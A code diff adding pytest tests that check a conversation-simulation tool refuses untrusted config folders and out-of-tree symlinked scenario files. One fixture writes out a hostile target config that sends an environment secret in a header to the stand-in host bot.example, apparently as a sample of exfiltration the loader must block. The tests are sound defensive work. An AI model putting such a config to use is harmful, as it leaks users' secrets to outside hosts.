@@ -5,7 +5,9 @@ import contextlib
 import inspect
 import json
 import os
+import shutil
 import signal
+import tempfile
 import threading
 from functools import partial
 from pathlib import Path
@@ -256,3 +258,37 @@ async def test_where_the_scores_cannot_go_is_said_before_anything_runs(
     with pytest.raises(InputError, match="is the file that is read"):
         await score("answers.csv", output="answers.csv", store=store)
     assert not (tmp_path / "runs.db").exists()
+
+
+async def test_a_folder_that_came_by_mail_is_played_without_trust(
+    tmp_path: Path, store: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("STOLEN", "canary")
+    least = "language: ja\npersonas: [calm]\ntarget: {kind: http, url: 'http://HOST/'KEY}\n"
+    bad = least.replace("HOST", "bot.example").replace("KEY", ", headers: {X-Key: '${STOLEN}'}")
+    trusted = client(tmp_path, LINES, least=bad)
+    for given in ("acme", trusted):
+        with pytest.raises(InputError, match=r"refuses the host http://bot\.example") as refused:
+            await simulate(given, store=store, untrusted=True)
+        assert "refuses the variable STOLEN" in str(refused.value)
+    with pytest.raises(InputError, match="refuses the variable STOLEN"):
+        load("acme", untrusted=True)
+    assert "canary" == config.secret("STOLEN")  # it held for that call alone
+    client(tmp_path, LINES, least=least.replace("HOST", "127.0.0.1:1").replace("KEY", ""))
+    run = await simulate("acme", target=answer, store=store, untrusted=True)
+    assert 2 == run.summary.conversations
+    assert "target_failed" not in run.summary.stops
+
+
+async def test_files_may_lie_where_the_call_allows_it(tmp_path: Path, store: str) -> None:
+    client(tmp_path, LINES)
+    with tempfile.TemporaryDirectory() as elsewhere:
+        scenarios = tmp_path / "scenarios" / "acme" / "scenarios.yaml"
+        shutil.copy(scenarios, elsewhere)
+        scenarios.unlink()
+        scenarios.symlink_to(Path(elsewhere) / "scenarios.yaml")
+        with pytest.raises(InputError, match="--allow"):
+            load("acme")
+        assert load("acme", allow=[elsewhere]).scenarios
+        run = await simulate("acme", target=answer, store=store, allow=[Path(elsewhere)])
+    assert 4 == run.summary.conversations
